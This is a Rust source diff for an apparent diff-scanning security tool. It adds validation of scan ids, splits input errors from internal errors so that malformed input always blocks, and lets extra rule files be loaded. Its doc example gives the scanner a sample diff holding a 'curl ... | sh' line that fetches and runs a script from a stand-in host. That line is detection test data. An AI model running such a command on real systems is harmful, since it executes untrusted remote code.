@@ -7,7 +7,7 @@
 //! use diffver_core::suppress::Timestamp;
 //! use diffver_core::verdict::{evaluate, Decision, Inputs, ScanContext};
 //!
-//! let ctx = ScanContext::new("scan-1", Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap());
+//! let ctx = ScanContext::new("scan-1", Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap()).unwrap();
 //! let policy = Policy::builtin("standard").unwrap();
 //! let rules = Ruleset::builtin();
 //! let diff = b"--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-echo hi\n+curl -s https://x.example/i | sh\n";
@@ -19,7 +19,7 @@ use sha2::{Digest, Sha256};
 
 use crate::diff::{self, Limits};
 use crate::finding::Finding;
-use crate::policy::{Action, OnError, Policy};
+use crate::policy::{Action, Policy};
 use crate::rules::{RuleError, Ruleset, ScanOptions};
 use crate::scan::{ScanConfig, scan};
 use crate::suppress::{Baseline, Suppression, Timestamp, inline_ignore_names};
@@ -47,23 +47,110 @@ impl Decision {
     }
 }
 
+/// Where an error came from: what decides whether it blocks.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum ErrorKind {
+    /// The input (diff, rules, policy) is malformed, unsupported or over a
+    /// limit. The submitter controls it, so it blocks under every policy.
+    Input,
+    /// A fault of the machinery (storage, a signer): the policy's
+    /// `on_error` decides whether it blocks.
+    Internal,
+}
+
 /// Identity and time of a scan, passed in (the core reads no clock).
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ScanContext {
-    /// The scan's id (names the diff and the artifact: `diffs/{scan_id}.patch`).
-    /// Empty: `sha256-` and the first 16 hex digits of the diff's SHA-256.
-    pub scan_id: String,
-    /// The scan time: exceptions expire against it, artifacts record it.
-    pub now: Timestamp,
+    scan_id: String,
+    now: Timestamp,
+}
+
+/// The longest scan id.
+pub const MAX_SCAN_ID_LEN: usize = 128;
+
+/// A scan id outside the safe alphabet.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[non_exhaustive]
+pub enum ScanIdError {
+    /// Longer than [`MAX_SCAN_ID_LEN`].
+    #[error("a scan id is at most {MAX_SCAN_ID_LEN} bytes (found {len})")]
+    TooLong {
+        /// Its length.
+        len: usize,
+    },
+    /// A character outside `A-Z a-z 0-9 . _ -`, or a first character that is
+    /// not a letter or digit.
+    #[error(
+        "scan id {shown:?} has {what} at byte {at}: use letters, digits, '.', '_' and '-', starting with a letter or digit"
+    )]
+    Alphabet {
+        /// The id, escaped and shortened.
+        shown: String,
+        /// Byte offset of the first bad character.
+        at: usize,
+        /// What is wrong there.
+        what: &'static str,
+    },
+}
+
+/// Checks a scan id: 1 to 128 bytes of `A-Z a-z 0-9 . _ -`, starting with a
+/// letter or digit. It names the diff (`diffs/{scan_id}.patch`) inside signed
+/// bytes and becomes part of object keys, so nothing else is allowed: no
+/// separators, no `..`, no whitespace, nothing a shell or URL would interpret.
+///
+/// # Errors
+///
+/// [`ScanIdError`] saying what is wrong and where.
+pub fn check_scan_id(id: &str) -> Result<(), ScanIdError> {
+    if id.len() > MAX_SCAN_ID_LEN {
+        return Err(ScanIdError::TooLong { len: id.len() });
+    }
+    let bad = |at: usize, what: &'static str| ScanIdError::Alphabet {
+        shown: crate::text::escape_for_display(&id.as_bytes()[..id.len().min(64)]),
+        at,
+        what,
+    };
+    match id.bytes().next() {
+        None => return Err(bad(0, "nothing")),
+        Some(b) if !b.is_ascii_alphanumeric() => {
+            return Err(bad(0, "a first character that is not a letter or digit"));
+        }
+        Some(_) => {}
+    }
+    if let Some(at) = id
+        .bytes()
+        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-')))
+    {
+        return Err(bad(at, "a character outside the alphabet"));
+    }
+    Ok(())
 }
 
 impl ScanContext {
-    /// A context.
-    pub fn new(scan_id: impl Into<String>, now: Timestamp) -> ScanContext {
-        ScanContext {
-            scan_id: scan_id.into(),
-            now,
+    /// A context. An empty `scan_id` means "derive it from the diff":
+    /// `sha256-` and the first 16 hex digits of the diff's SHA-256.
+    ///
+    /// # Errors
+    ///
+    /// [`ScanIdError`] for an id outside the alphabet of [`check_scan_id`].
+    pub fn new(scan_id: impl Into<String>, now: Timestamp) -> Result<ScanContext, ScanIdError> {
+        let scan_id = scan_id.into();
+        if !scan_id.is_empty() {
+            check_scan_id(&scan_id)?;
         }
+        Ok(ScanContext { scan_id, now })
+    }
+
+    /// The scan's id (names the diff and the artifact: `diffs/{scan_id}.patch`);
+    /// empty until a verdict derives it.
+    pub fn scan_id(&self) -> &str {
+        &self.scan_id
+    }
+
+    /// The scan time: exceptions expire against it, artifacts record it.
+    pub fn now(&self) -> Timestamp {
+        self.now
     }
 }
 
@@ -150,6 +237,7 @@ pub struct Verdict {
     pub(crate) findings: Vec<Evaluated>,
     pub(crate) expired_exceptions: Vec<String>,
     pub(crate) error: Option<String>,
+    pub(crate) error_kind: ErrorKind,
     pub(crate) diff: DiffFacts,
     pub(crate) post_images: Vec<PostImage>,
     pub(crate) policy_id: String,
@@ -197,6 +285,11 @@ impl Verdict {
         self.error.as_deref()
     }
 
+    /// Whether the error, if any, came from the input or the machinery.
+    pub fn error_kind(&self) -> ErrorKind {
+        self.error_kind
+    }
+
     /// Facts about the diff.
     pub fn diff(&self) -> &DiffFacts {
         &self.diff
@@ -229,9 +322,26 @@ impl Verdict {
 ///
 /// [`RuleError`] if the policy's rules do not load.
 pub fn ruleset_for(policy: &Policy) -> Result<Ruleset, RuleError> {
+    ruleset_with(policy, &[])
+}
+
+/// The one way every surface (SDK, CLI, Python, service) builds the rules of a
+/// scan: the built-in packs, then the policy's `rules_toml`, then `extra` rule
+/// files in the order given, each as (name for error messages, TOML source).
+/// The ruleset's hash covers the sources' contents only, so the same rules
+/// give the same hash — and the same signed bytes — whatever the files were
+/// called or however their paths were typed.
+///
+/// # Errors
+///
+/// [`RuleError`] naming the source and rule at fault.
+pub fn ruleset_with(policy: &Policy, extra: &[(&str, &str)]) -> Result<Ruleset, RuleError> {
     let mut b = Ruleset::builder().add_builtin()?;
     if let Some(src) = policy.rules_toml() {
-        b = b.add_toml(src, &format!("policy:{}", policy.id()))?;
+        b = b.add_toml(src, &format!("policy {} rules_toml", policy.id()))?;
+    }
+    for (name, src) in extra {
+        b = b.add_toml(src, name)?;
     }
     b.build()
 }
@@ -261,6 +371,7 @@ pub fn evaluate(inputs: &Inputs<'_>) -> Verdict {
         findings: Vec::new(),
         expired_exceptions: Vec::new(),
         error: None,
+        error_kind: ErrorKind::Input,
         diff: facts,
         post_images: Vec::new(),
         policy_id: policy.id().to_owned(),
@@ -290,7 +401,10 @@ pub fn evaluate(inputs: &Inputs<'_>) -> Verdict {
         Ok(p) => p,
         Err(e) => {
             verdict.decision = Decision::Error;
-            verdict.blocks = policy.on_error() == OnError::FailClosed;
+            // Malformed input is the submitter's doing: it blocks under
+            // every policy; `on_error` is for internal faults only.
+            verdict.blocks = true;
+            verdict.error_kind = ErrorKind::Input;
             verdict.error = Some(e.to_string());
             return verdict;
         }
